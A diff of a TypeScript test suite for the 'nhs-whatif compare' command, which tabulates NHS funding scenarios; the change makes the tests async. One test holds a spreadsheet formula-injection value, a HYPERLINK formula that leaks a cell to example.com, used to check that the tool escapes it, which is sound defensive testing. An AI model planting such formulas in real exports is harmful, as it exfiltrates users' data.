@@ -7,8 +7,8 @@ const CAPACITY = 'scenarios/capacity-constrained.yaml';
 const WHAT_HAPPENED = 'scenarios/what-happened.yaml';
 
 /** `nhs-whatif compare ARGS...` through the built command; expects it to succeed and returns stdout. */
-function compare(...args: string[]): string {
-  const { code, stdout, stderr } = cli('compare', ...args);
+async function compare(...args: string[]): Promise<string> {
+  const { code, stdout, stderr } = await cli('compare', ...args);
   expect(stderr).toBe('');
   expect(code).toBe(0);
   return stdout;
@@ -35,8 +35,8 @@ function parseCsv(text: string): string[][] {
 }
 
 describe('nhs-whatif compare', () => {
-  it('prints JSON with full precision', () => {
-    const json = JSON.parse(compare(BASELINE, GROWTH_3, '--format', 'json'));
+  it('prints JSON with full precision', async () => {
+    const json = JSON.parse(await compare(BASELINE, GROWTH_3, '--format', 'json'));
     expect(json.scenarios).toEqual([
       { name: 'Baseline', file: BASELINE, years: ['2016/17', '2017/18', '2018/19', '2019/20', '2020/21'] },
       { name: 'Growth 3%', file: GROWTH_3, years: ['2016/17', '2017/18', '2018/19', '2019/20', '2020/21'] },
@@ -52,8 +52,8 @@ describe('nhs-whatif compare', () => {
     });
   });
 
-  it('shows absent cells and errors in JSON', () => {
-    const { code, stdout } = cli('compare', BASELINE, CAPACITY, 'test/fixtures/compare/broken-share.yaml', '--format', 'json');
+  it('shows absent cells and errors in JSON', async () => {
+    const { code, stdout } = await cli('compare', BASELINE, CAPACITY, 'test/fixtures/compare/broken-share.yaml', '--format', 'json');
     expect(code).toBe(1);
     const json = JSON.parse(stdout);
     const row = (label: string) => json.rows.find((candidate: { label: string }) => candidate.label === label);
@@ -62,8 +62,8 @@ describe('nhs-whatif compare', () => {
     expect(row('private_share 2020/21').values[2]).toEqual({ error: expect.stringContaining('division by zero') });
   });
 
-  it('prints CSV a spreadsheet can read, with raw numbers', () => {
-    const rows = parseCsv(compare(BASELINE, GROWTH_3, CAPACITY, '--format', 'csv'));
+  it('prints CSV a spreadsheet can read, with raw numbers', async () => {
+    const rows = parseCsv(await compare(BASELINE, GROWTH_3, CAPACITY, '--format', 'csv'));
     expect(rows[0]).toEqual([
       'cell', 'part', 'year', 'unit', 'Baseline', 'Growth 3%', 'Capacity-constrained NHS',
       'Growth 3% change', 'Growth 3% relative change', 'Capacity-constrained NHS change', 'Capacity-constrained NHS relative change', 'error',
@@ -78,8 +78,8 @@ describe('nhs-whatif compare', () => {
     expect(rows.find((row) => row[0] === 'nhs_capacity_growth')!.slice(4, 12)).toEqual(['', '', '0.8', '', '', '', '', '']);
   });
 
-  it('prefixes scenario names a spreadsheet would run as formulas with a quote, and keeps negative numbers raw', () => {
-    const { code, stdout } = cli(
+  it('prefixes scenario names a spreadsheet would run as formulas with a quote, and keeps negative numbers raw', async () => {
+    const { code, stdout } = await cli(
       'compare', BASELINE, 'test/fixtures/cli/hyperlink-name.yaml', 'test/fixtures/cli/at-name.yaml', '--cells', 'cumulative_extra_to_nhs', '--format', 'csv',
     );
     const hyperlink = `'=HYPERLINK("http://example.com/?leak="&A1,"Baseline")`;
@@ -90,8 +90,8 @@ describe('nhs-whatif compare', () => {
     expect(code).toBe(0);
   });
 
-  it('gives the reason for each ERROR in the CSV error column', () => {
-    const { code, stdout } = cli('compare', BASELINE, 'test/fixtures/compare/broken-share.yaml', '--cells', 'private_share', '--format', 'csv');
+  it('gives the reason for each ERROR in the CSV error column', async () => {
+    const { code, stdout } = await cli('compare', BASELINE, 'test/fixtures/compare/broken-share.yaml', '--cells', 'private_share', '--format', 'csv');
     const rows = parseCsv(stdout);
     expect(rows[0]).toEqual(['cell', 'part', 'year', 'unit', 'Baseline', 'Broken share', 'Broken share change', 'Broken share relative change', 'error']);
     expect(rows.find((row) => row[2] === '2020/21')).toEqual([
@@ -101,8 +101,8 @@ describe('nhs-whatif compare', () => {
     expect(code).toBe(1);
   });
 
-  it('prints a Markdown table ready for a briefing', () => {
-    const md = compare(BASELINE, GROWTH_3, '--format', 'md', '--cells', 'cumulative_extra_to_private,private_share');
+  it('prints a Markdown table ready for a briefing', async () => {
+    const md = await compare(BASELINE, GROWTH_3, '--format', 'md', '--cells', 'cumulative_extra_to_private,private_share');
     expect(md).toBe(
       [
         '### Baseline vs Growth 3%',
@@ -122,8 +122,8 @@ describe('nhs-whatif compare', () => {
     );
   });
 
-  it('prints an aligned table with a note on absent cells', () => {
-    const table = compare(BASELINE, CAPACITY, '--cells', 'cumulative_extra_to_nhs,nhs_capacity_growth');
+  it('prints an aligned table with a note on absent cells', async () => {
+    const table = await compare(BASELINE, CAPACITY, '--cells', 'cumulative_extra_to_nhs,nhs_capacity_growth');
     expect(table.split('\n')).toEqual([
       'cell                     Baseline  Capacity-constrained NHS    change       %',
       'cumulative_extra_to_nhs  £16.60bn                  £12.00bn  -£4.60bn  -27.7%',
@@ -135,8 +135,8 @@ describe('nhs-whatif compare', () => {
     ]);
   });
 
-  it('lists errors under the table with file:line:col and exits 1', () => {
-    const { code, stdout, stderr } = cli('compare', BASELINE, 'test/fixtures/compare/broken-share.yaml', '--cells', 'private_share', '--format', 'md');
+  it('lists errors under the table with file:line:col and exits 1', async () => {
+    const { code, stdout, stderr } = await cli('compare', BASELINE, 'test/fixtures/compare/broken-share.yaml', '--cells', 'private_share', '--format', 'md');
     expect(stdout).toContain('| private_share 2020/21 | 11.87% | ERROR |  |  |');
     expect(stdout.endsWith(
       '\nErrors:\n\n- test/fixtures/compare/broken-share.yaml:5:18: private_share: 2016/17: result is Infinity (division by zero or a number out of range)\n',
@@ -145,8 +145,8 @@ describe('nhs-whatif compare', () => {
     expect(code).toBe(1);
   });
 
-  it('places an inherited failing formula in the parent file and names the scenario, on stderr for JSON', () => {
-    const { code, stdout, stderr } = cli('compare', BASELINE, 'test/fixtures/cli/budget-collapse.yaml', '--format', 'json');
+  it('places an inherited failing formula in the parent file and names the scenario, on stderr for JSON', async () => {
+    const { code, stdout, stderr } = await cli('compare', BASELINE, 'test/fixtures/cli/budget-collapse.yaml', '--format', 'json');
     expect(JSON.parse(stdout).scenarios.map((scenario: { name: string }) => scenario.name)).toEqual(['Baseline', 'Budget collapse']);
     expect(stderr).toBe(
       'scenarios/baseline.yaml:88:14: private_share: 2016/17: result is -Infinity (division by zero or a number out of range) (inherited by test/fixtures/cli/budget-collapse.yaml)\n',
@@ -154,8 +154,8 @@ describe('nhs-whatif compare', () => {
     expect(code).toBe(1);
   });
 
-  it('reports every file that fails to load, not just the first', () => {
-    const { code, stdout, stderr } = cli('compare', 'scenarios/no-such.yaml', BASELINE, 'test/fixtures/cli/missing-parent.yaml');
+  it('reports every file that fails to load, not just the first', async () => {
+    const { code, stdout, stderr } = await cli('compare', 'scenarios/no-such.yaml', BASELINE, 'test/fixtures/cli/missing-parent.yaml');
     expect(stdout).toBe('');
     expect(stderr).toBe(
       'scenarios/no-such.yaml:1:1: cannot read scenarios/no-such.yaml: no such file; check the path\n' +
@@ -164,27 +164,27 @@ describe('nhs-whatif compare', () => {
     expect(code).toBe(1);
   });
 
-  it('tells apart scenarios with the same name by file name in every format', () => {
+  it('tells apart scenarios with the same name by file name in every format', async () => {
     const files = [BASELINE, 'test/fixtures/cli/also-baseline.yaml', '--cells', 'cumulative_extra_to_nhs'];
-    expect(cli('compare', ...files).stdout.split('\n')[0]).toBe('cell                     Baseline [baseline.yaml]  Baseline [also-baseline.yaml]    change       %');
-    expect(cli('compare', ...files, '--format', 'md').stdout.split('\n').slice(0, 3)).toEqual([
+    expect((await cli('compare', ...files)).stdout.split('\n')[0]).toBe('cell                     Baseline [baseline.yaml]  Baseline [also-baseline.yaml]    change       %');
+    expect((await cli('compare', ...files, '--format', 'md')).stdout.split('\n').slice(0, 3)).toEqual([
       '### Baseline [baseline.yaml] vs Baseline [also-baseline.yaml]',
       '',
       '| cell | Baseline [baseline.yaml] | Baseline [also-baseline.yaml] | change | % |',
     ]);
-    expect(parseCsv(cli('compare', ...files, '--format', 'csv').stdout)[0]!.slice(4, 8)).toEqual([
+    expect(parseCsv((await cli('compare', ...files, '--format', 'csv')).stdout)[0]!.slice(4, 8)).toEqual([
       'Baseline [baseline.yaml]', 'Baseline [also-baseline.yaml]', 'Baseline [also-baseline.yaml] change', 'Baseline [also-baseline.yaml] relative change',
     ]);
-    expect(JSON.parse(cli('compare', ...files, '--format', 'json').stdout).scenarios.map((scenario: { name: string; file: string }) => [scenario.name, scenario.file])).toEqual([
+    expect(JSON.parse((await cli('compare', ...files, '--format', 'json')).stdout).scenarios.map((scenario: { name: string; file: string }) => [scenario.name, scenario.file])).toEqual([
       ['Baseline [baseline.yaml]', BASELINE],
       ['Baseline [also-baseline.yaml]', 'test/fixtures/cli/also-baseline.yaml'],
     ]);
   });
 
-  it('uses the path when the file names are the same too, and the position when a file is given twice', () => {
-    const md = cli('compare', BASELINE, 'test/fixtures/cli/renamed/baseline.yaml', '--cells', 'cumulative_extra_to_nhs', '--format', 'md').stdout;
+  it('uses the path when the file names are the same too, and the position when a file is given twice', async () => {
+    const md = (await cli('compare', BASELINE, 'test/fixtures/cli/renamed/baseline.yaml', '--cells', 'cumulative_extra_to_nhs', '--format', 'md')).stdout;
     expect(md.split('\n')[0]).toBe('### Baseline [scenarios/baseline.yaml] vs Baseline [test/fixtures/cli/renamed/baseline.yaml]');
-    const twice = cli('compare', BASELINE, BASELINE, '--cells', 'cumulative_extra_to_nhs');
+    const twice = await cli('compare', BASELINE, BASELINE, '--cells', 'cumulative_extra_to_nhs');
     expect(twice.stdout.split('\n').slice(0, 2)).toEqual([
       'cell                     Baseline [baseline.yaml #1]  Baseline [baseline.yaml #2]    change      %',
       'cumulative_extra_to_nhs                     £16.60bn                     £16.60bn  ±£0.00bn  ±0.0%',
@@ -192,13 +192,13 @@ describe('nhs-whatif compare', () => {
     expect(twice.code).toBe(0);
   });
 
-  it('refuses an unknown --cells name with a suggestion, and an empty list, with exit code 2', () => {
-    expect(cli('compare', BASELINE, CAPACITY, '--cells', 'cumulative_extra_to_privat')).toEqual({
+  it('refuses an unknown --cells name with a suggestion, and an empty list, with exit code 2', async () => {
+    expect(await cli('compare', BASELINE, CAPACITY, '--cells', 'cumulative_extra_to_privat')).toEqual({
       code: 2,
       stdout: '',
       stderr: 'nhs-whatif: --cells: no cell named "cumulative_extra_to_privat" in these scenarios (did you mean "cumulative_extra_to_private"?)\n',
     });
-    expect(cli('compare', BASELINE, CAPACITY, '--cells', ' , ')).toEqual({
+    expect(await cli('compare', BASELINE, CAPACITY, '--cells', ' , ')).toEqual({
       code: 2,
       stdout: '',
       stderr: 'nhs-whatif: --cells needs cell names separated by commas, e.g. --cells cumulative_extra_to_private,private_share\n',
@@ -207,8 +207,8 @@ describe('nhs-whatif compare', () => {
 });
 
 describe('nhs-whatif compare with three or more scenarios and different horizons', () => {
-  it('prints a table with a value, change and % column for each later scenario, matched by year', () => {
-    const table = compare(BASELINE, WHAT_HAPPENED, CAPACITY, 'scenarios/reverse-privatisation.yaml', '--cells', 'budget,private_share,cumulative_extra_to_nhs');
+  it('prints a table with a value, change and % column for each later scenario, matched by year', async () => {
+    const table = await compare(BASELINE, WHAT_HAPPENED, CAPACITY, 'scenarios/reverse-privatisation.yaml', '--cells', 'budget,private_share,cumulative_extra_to_nhs');
     expect(table.split('\n')).toEqual([
       'cell                             Baseline  What happened to 2019/20     change       %  Capacity-constrained NHS    change       %  Reverse privatisation     change       %',
       'budget 2016/17                  £116.76bn                 £119.23bn   +£2.47bn   +2.1%                 £116.76bn  ±£0.00bn   ±0.0%              £116.76bn   ±£0.00bn   ±0.0%',
@@ -231,8 +231,8 @@ describe('nhs-whatif compare with three or more scenarios and different horizons
     ]);
   });
 
-  it('prints a Markdown table for three scenarios with the notes in one paragraph', () => {
-    const md = compare(BASELINE, WHAT_HAPPENED, 'scenarios/average-split.yaml', '--format', 'md', '--cells', 'extra_to_private');
+  it('prints a Markdown table for three scenarios with the notes in one paragraph', async () => {
+    const md = await compare(BASELINE, WHAT_HAPPENED, 'scenarios/average-split.yaml', '--format', 'md', '--cells', 'extra_to_private');
     expect(md.split('\n')).toEqual([
       '### Baseline vs What happened to 2019/20 vs Average split',
       '',
@@ -250,8 +250,8 @@ describe('nhs-whatif compare with three or more scenarios and different horizons
     ]);
   });
 
-  it('gives each scenario its own years in JSON, and no difference where a year or a comparable total is missing', () => {
-    const json = JSON.parse(compare(BASELINE, WHAT_HAPPENED, '--format', 'json', '--cells', 'extra_to_private'));
+  it('gives each scenario its own years in JSON, and no difference where a year or a comparable total is missing', async () => {
+    const json = JSON.parse(await compare(BASELINE, WHAT_HAPPENED, '--format', 'json', '--cells', 'extra_to_private'));
     expect(json.scenarios).toEqual([
       { name: 'Baseline', file: BASELINE, years: ['2016/17', '2017/18', '2018/19', '2019/20', '2020/21'] },
       { name: 'What happened to 2019/20', file: WHAT_HAPPENED, years: ['2016/17', '2017/18', '2018/19', '2019/20'] },
@@ -264,8 +264,8 @@ describe('nhs-whatif compare with three or more scenarios and different horizons
     expect(row('extra_to_private 2019/20').differences).toEqual([{ absolute: happened2019 - baseline2019, relative: (happened2019 - baseline2019) / baseline2019 }]);
   });
 
-  it('puts every year of both horizons in the CSV, blank where a scenario has none', () => {
-    const rows = parseCsv(compare(BASELINE, 'test/fixtures/compare/short-horizon.yaml', GROWTH_3, '--format', 'csv', '--cells', 'budget'));
+  it('puts every year of both horizons in the CSV, blank where a scenario has none', async () => {
+    const rows = parseCsv(await compare(BASELINE, 'test/fixtures/compare/short-horizon.yaml', GROWTH_3, '--format', 'csv', '--cells', 'budget'));
     expect(rows[0]!.slice(2, 9)).toEqual(['year', 'unit', 'Baseline', 'Three years', 'Growth 3%', 'Three years change', 'Three years relative change']);
     const base = 8.7 / 0.076;
     const threeYears = [1, 2, 3].map((t) => base * 1.02 ** t);
